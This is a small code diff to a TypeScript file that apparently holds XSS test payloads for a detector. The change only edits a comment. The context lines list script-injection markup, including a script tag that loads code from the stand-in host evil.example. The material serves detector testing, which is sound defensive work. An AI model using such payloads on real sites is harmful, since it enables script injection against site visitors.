@@ -1,4 +1,4 @@
-/** Markup that runs a script or adds an element; `ID` stands for the mark that the detector looks for. */
+/** `ID` stands for the mark that the detector looks for. */
 export const MARKUP: readonly string[] = [
   `<script>__pwned='ID'</script>`,
   `<SCRIPT SRC=//evil.example/ID data-pwn=ID></SCRIPT>`,
